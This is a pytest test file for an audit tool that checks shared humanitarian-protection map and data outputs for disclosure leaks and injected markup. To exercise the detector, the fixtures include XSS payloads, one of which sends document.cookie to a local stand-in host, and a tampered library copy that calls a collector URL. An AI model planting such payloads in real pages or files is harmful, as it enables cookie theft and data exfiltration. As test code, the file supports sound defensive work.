import base64
import html
import json

import folium
import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from folium.plugins import HeatMap
from shapely.geometry import box

from protection_eval.hexgrid import to_h3_cells, to_hexagon_frame
from protection_eval.sharing.audit.folder import audit_shared_folder
from protection_eval.sharing.audit.rules import find_dates_and_times, is_count_name
from protection_eval.sharing.disclosure import (
    aggregate_counts,
    month_floor,
)
from protection_eval.sharing.maps import CoverageSubject, MapStyle, make_coverage_map

TILES = "https://tiles.mission.example/{z}/{x}/{y}.png"


def make_incidents(n: int = 120, seed: int = 5) -> gpd.GeoDataFrame:
    rng = np.random.default_rng(seed)
    lng = 31.55 + rng.normal(0, 0.03, n)
    lat = 4.85 + rng.normal(0, 0.03, n)
    frame = pd.DataFrame(
        {
            "incident_id": [f"INC-{i:05d}" for i in range(n)],
            "occurred_at": pd.Timestamp("2023-01-01", tz="UTC")
            + pd.to_timedelta(rng.integers(0, 24 * 120, n), unit="h"),
            "area_id": np.where(lng < 31.55, "west", "east"),
            "longitude": lng,
            "latitude": lat,
        }
    )
    return gpd.GeoDataFrame(frame, geometry=gpd.points_from_xy(lng, lat), crs="EPSG:4326")


def make_areas() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"area_id": ["west", "east"], "name": ["Kibati", "Munigi"]},
        geometry=[box(31.4, 4.7, 31.55, 5.0), box(31.55, 4.7, 31.7, 5.0)],
        crs="EPSG:4326",
    )


def audit(folder, incidents, **kwargs):
    return audit_shared_folder(
        folder, incidents=incidents, areas=make_areas(), k=5, tile_server=TILES, **kwargs
    )


def kinds_by_file(result) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for finding in result.findings:
        out.setdefault(finding.file, set()).add(finding.kind)
    return out


@pytest.fixture(scope="module")
def incidents():
    return make_incidents()


@pytest.fixture(scope="module")
def clean_folder(tmp_path_factory, incidents):
    folder = tmp_path_factory.mktemp("shared")
    frame = incidents.assign(
        h3_cell=to_h3_cells(incidents["longitude"], incidents["latitude"], 7),
        month=month_floor(incidents["occurred_at"]),
    )
    by_cell = aggregate_counts(frame, ["h3_cell"], k=5)
    hexagons = to_hexagon_frame(by_cell.shared())
    by_area = aggregate_counts(frame, ["area_id"], k=5).shared()
    areas = make_areas().merge(by_area, on="area_id")
    gaps = hexagons[hexagons["incidents"].notna()].head(3).copy()
    gaps["gap_rank"] = range(1, len(gaps) + 1)
    page = make_coverage_map(
        areas,
        hexagons,
        gaps=gaps,
        subject=CoverageSubject(mission="TEST", period="2023-01 to 2023-04", synthetic=True),
        k=5,
        style=MapStyle(tile_url=TILES, tile_attribution="&copy; mission"),
    ).to_html()
    (folder / "coverage_map.html").write_text(page, encoding="utf-8")
    monthly = aggregate_counts(frame, ["area_id", "month"], k=5, margins=[("area_id",)]).shared()
    monthly.to_csv(folder / "monthly.csv", index=False)
    effects = pd.DataFrame(
        {
            "strategy_id": ["firewood-escorts"],
            "irr": [0.62],
            "ci_low": [0.41],
            "ci_high": [0.93],
            "n_areas": [3],
            "n_months": [4],
            "rollout_month": ["2023-04"],
        }
    )
    effects.to_csv(folder / "effects.csv", index=False)
    summary = {
        "mission": "TEST",
        "period": {"start": "2023-01", "end": "2023-04"},
        "incidents": int(by_cell.cells["incidents_raw"].sum()),
        "covered_share": 0.48,
        "k": 5,
        "areas": by_area.astype(object).where(by_area.notna(), None).to_dict("records"),
    }
    (folder / "coverage_summary.json").write_text(json.dumps(summary), encoding="utf-8")
    return folder


def test_clean_aggregated_folder_passes(clean_folder, incidents):
    result = audit(clean_folder, incidents)
    assert result.ok, result.summary()
    assert set(result.files) == {
        "coverage_map.html",
        "monthly.csv",
        "effects.csv",
        "coverage_summary.json",
    }
    assert result.to_frame().empty


@pytest.fixture(scope="module")
def leaky(tmp_path_factory, incidents):
    folder = tmp_path_factory.mktemp("leaky")
    points = incidents[["latitude", "longitude"]].to_numpy().tolist()

    heat = folium.Map(location=[4.85, 31.55], tiles=None)
    HeatMap(points).add_to(heat)
    heat.save(folder / "heatmap.html")

    features = [
        {
            "type": "Feature",
            "properties": {"incident_id": row.incident_id, "incidents": 12},
            "geometry": {"type": "Point", "coordinates": [row.longitude, row.latitude]},
        }
        for row in incidents.head(5).itertuples()
    ]
    (folder / "points.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": features})
    )

    hexagon = {
        "type": "Feature",
        "properties": {"name": "Kibati", "incidents": 3},
        "geometry": box(31.45, 4.75, 31.5, 4.8).__geo_interface__,
    }
    tooltip = folium.Map(location=[4.85, 31.55], tiles=None)
    folium.GeoJson(
        {"type": "FeatureCollection", "features": [hexagon]},
        tooltip=folium.GeoJsonTooltip(["incidents"], aliases=["Incidents"]),
    ).add_to(tooltip)
    tooltip.get_root().html.add_child(folium.Element("<div class='label'>Reports: 3</div>"))
    page = tooltip.get_root().render()
    for url in ("https://cdn.jsdelivr.net", "https://code.jquery.com", "https://netdna"):
        page = page.replace(url, "")
    (folder / "tooltip.html").write_text(page)

    pd.DataFrame(
        {"area_id": ["west", "east"], "date": ["2023-04-05", "2023-04-06"], "incidents": [12, 9]}
    ).to_csv(folder / "daily.csv", index=False)

    (folder / "cdn_map.html").write_text(
        "<html><head><script src='https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js'>"
        "</script></head><body><div id='map'></div></body></html>"
    )

    notebook = {
        "cells": [],
        "metadata": {"papermill": {"parameters": {"mission_config": "x"}}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (folder / "01_data_quality.ipynb").write_text(json.dumps(notebook))

    inner = (
        "<html><body><script>var pts = L.heatLayer("
        + json.dumps(points[:10])
        + ");</script><p>Reported 05/04/2023 at 14:30</p></body></html>"
    )
    encoded = base64.b64encode(inner.encode()).decode()
    srcdoc = html.escape(
        "<html><body><p>Incidents: 2</p><p>see /home/analyst/runs/x.csv</p></body></html>"
    )
    (folder / "hidden.html").write_text(
        f'<html><body><iframe src="data:text/html;base64,{encoded}"></iframe>'
        f'<iframe srcdoc="{srcdoc}"></iframe></body></html>'
    )
    (folder / "error.html").write_text(
        "<html><body><pre>Traceback (most recent call last):\n"
        '  File "/work/main/src/protection_eval/maps.py", line 12, in build\n'
        "ValueError: bad</pre></body></html>"
    )
    return folder


@pytest.fixture(scope="module")
def leaky_result(leaky, incidents):
    return audit(leaky, incidents)


@pytest.mark.parametrize(
    ("file", "kind"),
    [
        ("heatmap.html", "incident_coordinate"),
        ("heatmap.html", "third_party_request"),
        ("points.geojson", "identifying_field"),
        ("points.geojson", "identifying_value"),
        ("points.geojson", "incident_coordinate"),
        ("tooltip.html", "small_count"),
        ("daily.csv", "fine_date"),
        ("cdn_map.html", "third_party_request"),
        ("01_data_quality.ipynb", "notebook_file"),
        ("hidden.html", "incident_coordinate"),
        ("hidden.html", "fine_date"),
        ("hidden.html", "time_of_day"),
        ("hidden.html", "small_count"),
        ("hidden.html", "local_path"),
        ("error.html", "traceback"),
        ("error.html", "local_path"),
    ],
)
def test_leaky_artefact_is_caught(leaky_result, file, kind):
    assert kind in kinds_by_file(leaky_result).get(file, set()), leaky_result.summary()


def test_leaky_folder_fails_and_lists_file_where_what_why(leaky_result):
    assert not leaky_result.ok
    frame = leaky_result.to_frame()
    assert list(frame.columns) == ["file", "where", "kind", "what", "why"]
    assert frame["why"].str.len().gt(10).all()
    geojson = frame[(frame["file"] == "points.geojson") & (frame["kind"] == "identifying_value")]
    assert "inc-00000" in set(geojson["what"])


def test_small_count_inside_the_suppression_threshold_only(tmp_path, incidents):
    (tmp_path / "a.json").write_text(json.dumps({"incidents": 5, "n_areas": 3, "irr": 0.62}))
    assert audit(tmp_path, incidents).ok
    (tmp_path / "b.json").write_text(json.dumps({"cases": "4"}))
    result = audit(tmp_path, incidents)
    assert [f.file for f in result.findings] == ["b.json"]


def test_hexagon_vertices_and_area_points_near_incidents_are_approved(tmp_path, incidents):
    cells = to_h3_cells(incidents["longitude"].head(3), incidents["latitude"].head(3), 9)
    layer = to_hexagon_frame(pd.DataFrame({"h3_cell": cells, "incidents": [5, 6, 7]}))
    (tmp_path / "hex.geojson").write_text(layer.to_json())
    assert audit(tmp_path, incidents).ok
    near = incidents.iloc[0]
    (tmp_path / "marker.json").write_text(
        json.dumps({"marker": [round(near.latitude, 4), round(near.longitude, 4)]})
    )
    result = audit(tmp_path, incidents)
    assert {f.kind for f in result.findings} == {"incident_coordinate"}


def test_other_tile_server_and_cdn_fetch_in_script_are_third_party(tmp_path, incidents):
    (tmp_path / "m.html").write_text(
        "<html><body><a href='https://tiles.mission.example/about'>tiles</a><script>"
        "L.tileLayer('https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png').addTo(map);"
        "fetch('https://cdn.example.com/data.json');</script></body></html>"
    )
    result = audit(tmp_path, incidents)
    what = {f.what for f in result.findings}
    assert any("openstreetmap" in w for w in what) and any("cdn.example.com" in w for w in what)
    assert not any("tiles.mission.example" in w for w in what)


def test_without_incidents_the_other_rules_still_run(leaky):
    result = audit_shared_folder(leaky)
    kinds = {f.kind for f in result.findings}
    assert "incident_coordinate" not in kinds
    assert {"fine_date", "notebook_file", "third_party_request", "small_count"} <= kinds


def test_k_below_five_is_refused(tmp_path):
    with pytest.raises(ValueError, match="k >= 5"):
        audit_shared_folder(tmp_path, k=3)


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("2023-04", set()),
        ("April 2023", set()),
        ("IRR 0.62 (0.41 to 0.93)", set()),
        ("2023-04-05", {"fine_date"}),
        ("05/04/2023", {"fine_date"}),
        ("5 April 2023", {"fine_date"}),
        ("2023-04-05T10:00:00Z", {"fine_date", "time_of_day"}),
        ("at 14:30", {"time_of_day"}),
    ],
)
def test_date_rule(text, kinds):
    assert {kind for kind, _ in find_dates_and_times(text)} == kinds


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("incidents", True),
        ("Reports in period", True),
        ("n_reports", True),
        ("count", True),
        ("n_areas", False),
        ("total_patrol_hours", False),
        ("covered_share", False),
        ("irr", False),
        ("gap_rank", False),
    ],
)
def test_count_names(name, expected):
    assert is_count_name(name) is expected


def test_small_polygon_around_an_incident_is_caught_a_large_outline_is_not(tmp_path, incidents):
    near = incidents.iloc[0]
    buffer = box(
        near.longitude - 0.0005,
        near.latitude - 0.0005,
        near.longitude + 0.0005,
        near.latitude + 0.0005,
    )
    outline = box(31.3, 4.6, 31.8, 5.1)
    frame = gpd.GeoDataFrame(
        {"layer": ["buffer", "outline"]}, geometry=[buffer, outline], crs="EPSG:4326"
    )
    (tmp_path / "shapes.geojson").write_text(frame.to_json())
    result = audit(tmp_path, incidents)
    assert [f.kind for f in result.findings] == ["incident_coordinate"]
    assert "/features/0/" in result.findings[0].where


def test_css_comment_urls_pass_but_css_fetch_is_caught(tmp_path, incidents):
    (tmp_path / "a.html").write_text(
        "<html><head><style>/* credit: https://github.com/someone/theme */ body{color:red}"
        "</style></head><body><p>ok</p></body></html>"
    )
    assert audit(tmp_path, incidents).ok
    (tmp_path / "b.html").write_text(
        "<html><head><style>body{background:url(https://cdn.example.com/bg.png)}</style>"
        "</head><body></body></html>"
    )
    result = audit(tmp_path, incidents)
    assert {(f.file, f.kind) for f in result.findings} == {("b.html", "third_party_request")}


def test_modified_vendored_copy_is_scanned(tmp_path, incidents):
    from protection_eval.sharing.offline import load_asset

    code = load_asset("leaflet")
    (tmp_path / "ok.html").write_text(
        f'<html><head><script data-vendored="leaflet/leaflet.js">\n{code}\n</script></head></html>'
    )
    assert audit(tmp_path, incidents).ok
    tampered = code + "\nfetch('https://collector.example.net/x');"
    (tmp_path / "bad.html").write_text(
        f'<html><head><script data-vendored="leaflet/leaflet.js">\n{tampered}\n</script>'
        "</head></html>"
    )
    result = audit(tmp_path, incidents)
    assert {f.file for f in result.findings} == {"bad.html"}
    assert any("collector.example.net" in f.what for f in result.findings)


def test_cli_with_mission_finds_raw_identifying_values_and_quarantined_points(
    tmp_path, bad_mission
):
    from typer.testing import CliRunner

    from protection_eval.cli import app

    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "note.json").write_text(
        json.dumps({"who": "INVENTED NAME", "where": [5.05, 30.05], "month": "2022-03"})
    )
    result = CliRunner().invoke(app, ["audit", str(shared), "--mission", str(bad_mission)])
    assert result.exit_code == 1, result.output
    assert "identifying_value" in result.output
    assert "incident_coordinate" in result.output
    (shared / "note.json").write_text(json.dumps({"month": "2022-03", "incidents": 12}))
    result = CliRunner().invoke(app, ["audit", str(shared), "--mission", str(bad_mission)])
    assert result.exit_code == 0, result.output
    assert "audit passed" in result.output


@pytest.mark.slow
def test_demo_mission_shared_outputs_pass(tmp_path, demo_missions):
    from protection_eval.coverage.mission import compute_mission_coverage
    from protection_eval.runs.missions import load_mission
    from protection_eval.runs.outputs import write_coverage
    from protection_eval.runs.publish import audit_folder
    from protection_eval.sharing.disclosure import k_from_config

    for config in demo_missions:
        mission = load_mission(config)
        k = k_from_config(mission.config)
        shared, restricted = tmp_path / config.stem / "shared", tmp_path / config.stem / "r"
        shared.mkdir(parents=True)
        restricted.mkdir()
        result = compute_mission_coverage(mission)
        write_coverage(result, restricted_dir=restricted, shared_dir=shared, k=k)
        cells = to_h3_cells(
            mission.incidents["longitude"],
            mission.incidents["latitude"],
            mission.config.sharing.h3_resolution,
        )
        counts = aggregate_counts(mission.incidents.assign(h3_cell=cells), ["h3_cell"], k=k)
        hexagons = to_hexagon_frame(counts.shared())
        by_area = aggregate_counts(mission.incidents, ["area_id"], k=k).shared()
        areas = mission.areas[["area_id", "name", "geometry"]].merge(by_area, on="area_id")
        footprint = gpd.GeoDataFrame(
            geometry=[result.footprints.to_crs("EPSG:4326").union_all()], crs="EPSG:4326"
        )
        gaps = hexagons[hexagons["incidents"].notna()].head(5).copy()
        gaps["gap_rank"] = range(1, len(gaps) + 1)
        page = make_coverage_map(
            areas,
            hexagons,
            footprint,
            gaps,
            subject=CoverageSubject(mission=config.stem, period="2022-01 to 2023-12",
                                    synthetic=True),
            k=k,
        ).to_html()
        (shared / "coverage_map.html").write_text(page, encoding="utf-8")
        audit_result = audit_folder(shared, config)
        assert audit_result.ok, audit_result.summary()


def test_legend_class_below_k_and_safe_house_layer_are_caught(tmp_path, incidents):
    (tmp_path / "legend.html").write_text(
        "<html><body><div>Reports of SGBV per hexagon</div><span>1&ndash;4</span>"
        "<span>5&ndash;9</span></body></html>"
    )
    (tmp_path / "places.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": [], "safe_houses": []})
    )
    (tmp_path / "ok.html").write_text(
        "<html><body><div>Reports per hexagon</div><span>5&ndash;9</span>"
        "<span>10 or more</span><p>Months 1-4 of the roll-out</p></body></html>"
    )
    result = audit(tmp_path, incidents)
    found = {(f.file, f.kind, f.what) for f in result.findings}
    assert found == {
        ("legend.html", "small_count", "legend class 1–4"),
        ("places.geojson", "protected_place", "safe_houses"),
    }


def test_one_hidden_area_recovered_from_a_total_in_another_file_is_caught(tmp_path, incidents):
    features = [
        {"type": "Feature", "properties": {"name": n, "incidents": v}, "geometry": None}
        for n, v in (("Kibati", "12"), ("Munigi", "not shown (suppressed)"), ("Goma", "30"))
    ]
    (tmp_path / "areas.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": features})
    )
    (tmp_path / "summary.json").write_text(json.dumps({"incidents_total": 45}))
    result = audit(tmp_path, incidents)
    assert [(f.file, f.kind) for f in result.findings] == [("areas.geojson", "recoverable_count")]
    assert "= 3" in result.findings[0].what
    (tmp_path / "summary.json").write_text(json.dumps({"incidents_total": 60}))
    assert audit(tmp_path, incidents).ok


def test_html_comments_and_percent_encoded_data_uris_are_read(tmp_path, incidents):
    (tmp_path / "c.html").write_text(
        "<html><body><!-- exported 2023-04-05 by INC-00007 -->"
        '<object data="data:text/html,%3Cp%3EIncidents%3A%202%3C%2Fp%3E"></object></body></html>'
    )
    kinds = {f.kind for f in audit(tmp_path, incidents).findings}
    assert kinds == {"fine_date", "identifying_value", "small_count"}


SCRIPT_NAME = 'Kator"><img src=x onerror="new Image().src=\'//127.0.0.1:9/\'+document.cookie">'


def _map_with_area_names(names):
    areas = make_areas().assign(name=names)
    hexagons = to_hexagon_frame(
        pd.DataFrame({"h3_cell": ["8773b5a4bffffff"], "incidents": pd.array([40], "Int64")})
    )
    return make_coverage_map(
        areas, hexagons,
        subject=CoverageSubject(mission="TEST", period="2023-01 to 2023-04", synthetic=True),
    ).to_html()


def test_markup_and_event_handlers_in_data_values_are_caught(tmp_path, incidents, monkeypatch):
    from protection_eval.sharing import maps
    escaped_page = _map_with_area_names([SCRIPT_NAME, "Tom & Jerry's <b>x</b>"])
    (tmp_path / "escaped_map.html").write_text(escaped_page, encoding="utf-8")
    # The page as folium wrote it before names were escaped: a tooltip would run the script.
    monkeypatch.setattr(maps, "_html_safe", lambda data: data)
    (tmp_path / "planted_map.html").write_text(
        _map_with_area_names([SCRIPT_NAME, "Munigi"]), encoding="utf-8"
    )
    (tmp_path / "summary.json").write_text(
        json.dumps({"areas": [{"name": "<svg/onload=alert(1)>", "share": 0.5}]}),
        encoding="utf-8",
    )
    (tmp_path / "gaps.csv").write_text(
        'place,rank\n"x"" onmouseover=""alert(1)",1\nKibati,2\n', encoding="utf-8"
    )
    island = json.dumps({"label": "<script>alert(1)</script>"}).replace("/", "\\/")
    (tmp_path / "island.html").write_text(
        f'<html><body><script type="application/json">{island}</script></body></html>',
        encoding="utf-8",
    )
    (tmp_path / "popup.html").write_text(
        "<html><body><script>var html = $(`<div>Kibati<img src=x onerror=alert(1)></div>`)[0];"
        "</script></body></html>",
        encoding="utf-8",
    )
    result = audit(tmp_path, incidents)
    kinds = kinds_by_file(result)
    for name in ("planted_map.html", "summary.json", "gaps.csv", "island.html", "popup.html"):
        assert "markup_in_data" in kinds.get(name, set()), (name, result.summary())
    planted = [f for f in result.findings if f.file == "planted_map.html"]
    assert any("<img src=x onerror=" in f.what and "properties/name" in f.where for f in planted)
    gaps = next(f for f in result.findings if f.file == "gaps.csv")
    assert gaps.where == "row 2, column place" and "onmouseover=" in gaps.what
    # Escaped for HTML, the same names are text: the page passes.
    assert "escaped_map.html" not in kinds, result.summary()


@pytest.mark.parametrize(
    ("value", "caught"),
    [
        ('Kator"><img src=x onerror="x()">', True),
        ("<b>Kibati</b>", True),
        ("<!-- hidden -->", True),
        ('" onfocus="x()" autofocus="', True),
        ("x onerror=alert(1)", True),
        (html.escape('Kator"><img src=x onerror="x()">'), False),
        ("Tom & Jerry's", False),
        ("a < b", False),
        ("<5 km from a base", False),
        ("Bonne Année", False),
        ("pardon=1", False),
    ],
)
def test_markup_rule_on_single_values(value, caught):
    from protection_eval.sharing.audit.rules import find_markup_in_value

    assert (find_markup_in_value(value) is not None) is caught
